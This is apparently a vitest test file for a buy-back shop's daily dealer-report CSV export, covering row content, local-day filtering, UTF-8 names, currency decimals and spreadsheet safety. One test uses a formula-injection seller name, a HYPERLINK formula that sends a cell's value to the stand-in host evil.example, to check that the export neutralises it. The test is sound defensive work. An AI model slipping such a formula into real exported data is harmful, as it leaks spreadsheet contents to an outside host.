import { describe, expect, it } from 'vitest';
import {
  DEALER_REPORT_COLUMNS,
  dealerReportCsv,
  dealerReportFileName,
  dealerReportRows,
} from '../../../src/csv/dealer-report';
import { isCsvFileError, parseCsvTable } from '../../../src/csv/table';
import type { Contact } from '../../../src/domain/contact';
import { estimate, item, paidBuyBack, seller } from '../dealer-report-fixtures';

const DAY = '2026-11-22';
const berlin = { timeZone: 'Europe/Berlin' };

const ada = seller('Ada Lovelace', { phone: '+1 415 555 0134', email: 'ada@example.com' });
const bob = seller('Bob Stone');
const contacts = (...list: Contact[]) => new Map(list.map((one) => [one.id, one]));

/** The file as a spreadsheet reads it back: header and rows, apostrophe guards undone. */
function readBack(csv: string) {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const table = parseCsvTable(csv.slice(1));
  if (isCsvFileError(table)) throw new Error(table.error);
  return table;
}

describe('dealer report rows', () => {
  it('gives one row per item, with the seller, their identification and the payout', () => {
    const phone = item('iPhone 13, 128 GB', 21000, { serial: '35-209900-176148-1', condition: 'A' });
    const watch = item('Apple Watch SE', 4550, { condition: 'C' });
    const buyBack = paidBuyBack({
      number: 7,
      contact: ada,
      paidAt: '2026-11-22T13:05:00.000Z',
      paidOn: DAY,
      items: [phone, watch],
      seller: { idType: 'Passport', idNumber: 'X1234567', idExpiry: '2030-01-31', dateOfBirth: '1990-12-10' },
      method: 'Bank transfer',
      reference: 'TR-889',
    });

    expect(dealerReportRows([buyBack], contacts(ada), DAY, berlin)).toEqual([
      [
        'BB-0007',
        '2026-11-22 14:05',
        'Ada Lovelace',
        '+1 415 555 0134',
        'ada@example.com',
        'Passport',
        'X1234567',
        '2030-01-31',
        '1990-12-10',
        'iPhone 13, 128 GB',
        '35-209900-176148-1',
        'A — like new',
        '210.00',
        'USD',
        'Bank transfer',
        'TR-889',
      ],
      [
        'BB-0007',
        '2026-11-22 14:05',
        'Ada Lovelace',
        '+1 415 555 0134',
        'ada@example.com',
        'Passport',
        'X1234567',
        '2030-01-31',
        '1990-12-10',
        'Apple Watch SE',
        '',
        'C — visible wear',
        '45.50',
        'USD',
        'Bank transfer',
        'TR-889',
      ],
    ]);
  });

  it('lists only live buy-backs paid on that day, in the order they were paid', () => {
    const rows = dealerReportRows(
      [
        paidBuyBack({
          number: 3,
          contact: bob,
          paidAt: '2026-11-22T16:00:00.000Z',
          paidOn: DAY,
          items: [item('Late', 100)],
        }),
        paidBuyBack({
          number: 2,
          contact: bob,
          paidAt: '2026-11-22T08:00:00.000Z',
          paidOn: DAY,
          items: [item('Early', 100)],
        }),
        paidBuyBack({
          number: 1,
          contact: bob,
          paidAt: '2026-11-21T08:00:00.000Z',
          paidOn: '2026-11-21',
          items: [item('Yesterday', 100)],
        }),
        paidBuyBack({
          number: 4,
          contact: bob,
          paidAt: '2026-11-22T09:00:00.000Z',
          paidOn: DAY,
          items: [item('Deleted', 100)],
          deletedAt: '2026-11-22T10:00:00.000Z',
        }),
        estimate({ number: 5, contact: bob, items: [item('Not paid', 100)] }),
      ],
      contacts(bob),
      DAY,
      berlin,
    );
    expect(rows.map((row) => [row[0], row[9]])).toEqual([
      ['BB-0002', 'Early'],
      ['BB-0003', 'Late'],
    ]);
  });

  it('goes by the shop’s calendar day of the payout, not the UTC date of the instant', () => {
    // Paid at 00:30 in Berlin: still the 21st in UTC.
    const buyBack = paidBuyBack({
      number: 1,
      contact: bob,
      paidAt: '2026-11-21T23:30:00.000Z',
      paidOn: DAY,
      items: [item('Tablet', 9000)],
    });
    const [row] = dealerReportRows([buyBack], contacts(bob), DAY, berlin);
    expect(row?.[1]).toBe('2026-11-22 00:30');
    expect(dealerReportRows([buyBack], contacts(bob), '2026-11-21', berlin)).toEqual([]);
  });

  it('leaves seller fields empty when the contact or the identification is unknown', () => {
    const buyBack = paidBuyBack({
      number: 9,
      contact: bob,
      paidAt: '2026-11-22T10:00:00.000Z',
      paidOn: DAY,
      items: [item('Laptop', 30000)],
    });
    const [row] = dealerReportRows([buyBack], new Map(), DAY, berlin);
    expect(row).toEqual([
      'BB-0009',
      '2026-11-22 11:00',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      'Laptop',
      '',
      'B — light wear',
      '300.00',
      'USD',
      'Cash',
      '',
    ]);
  });
});

describe('dealer report CSV', () => {
  it('is Excel-safe: BOM, the documented header, and a seller named like a formula neutralised', () => {
    const mallory = seller('=HYPERLINK("http://evil.example/?"&A1,"Click")', { email: 'm@example.com' });
    const buyBack = paidBuyBack({
      number: 12,
      contact: mallory,
      paidAt: '2026-11-22T10:00:00.000Z',
      paidOn: DAY,
      items: [item('+1 charger', 500, { serial: '@SN-1' })],
      seller: { idType: '-ID card', idNumber: '=1+1' },
      reference: '+44',
    });
    const csv = dealerReportCsv([buyBack], contacts(mallory), DAY, berlin);

    expect(csv.startsWith(`\uFEFF${DEALER_REPORT_COLUMNS.join(',')}\r\n`)).toBe(true);
    // Every cell a spreadsheet would run starts with the guarding apostrophe in the file…
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    for (const guarded of ["'+1 charger", "'@SN-1", "'-ID card", "'=1+1", "'+44"])
      expect(csv).toContain(guarded);
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
    // …and reads back as it was.
    const [row] = readBack(csv).rows;
    expect(row?.cells[2]).toBe(mallory.name);
    expect(row?.cells.slice(5, 7)).toEqual(['-ID card', '=1+1']);
  });

  it('keeps names in any script as they are, in UTF-8', () => {
    const names = ['Zoë Ångström', '李小龙', 'Ώλη Παπαδοπούλου', 'محمد الأحمد'];
    const sellers = names.map((name) => seller(name));
    const buyBacks = sellers.map((one, index) =>
      paidBuyBack({
        number: index + 1,
        contact: one,
        paidAt: `2026-11-22T1${index}:00:00.000Z`,
        paidOn: DAY,
        items: [item('Téléphone « Galaxy »', 1000)],
      }),
    );
    const table = readBack(dealerReportCsv(buyBacks, contacts(...sellers), DAY, berlin));
    expect(table.rows.map((row) => row.cells[2])).toEqual(names);
    expect(table.rows[0]?.cells[9]).toBe('Téléphone « Galaxy »');
  });

  it('has its header on a day with nothing bought, and is named after the day', () => {
    expect(dealerReportCsv([], new Map(), DAY)).toBe(`\uFEFF${DEALER_REPORT_COLUMNS.join(',')}\r\n`);
    expect(dealerReportFileName(DAY)).toBe('dealer-report-2026-11-22.csv');
  });

  it('writes amounts in the currency’s own decimals', () => {
    const yen = paidBuyBack({
      number: 1,
      contact: bob,
      paidAt: '2026-11-22T10:00:00.000Z',
      paidOn: DAY,
      items: [item('Camera', 12000)],
    });
    const inYen = {
      ...yen,
      currency: 'JPY',
      items: yen.items.map((one) => ({ ...one, price: { minor: 12000, currency: 'JPY' } })),
    };
    expect(dealerReportRows([inYen], contacts(bob), DAY)[0]?.slice(12, 14)).toEqual(['12000', 'JPY']);
  });
});
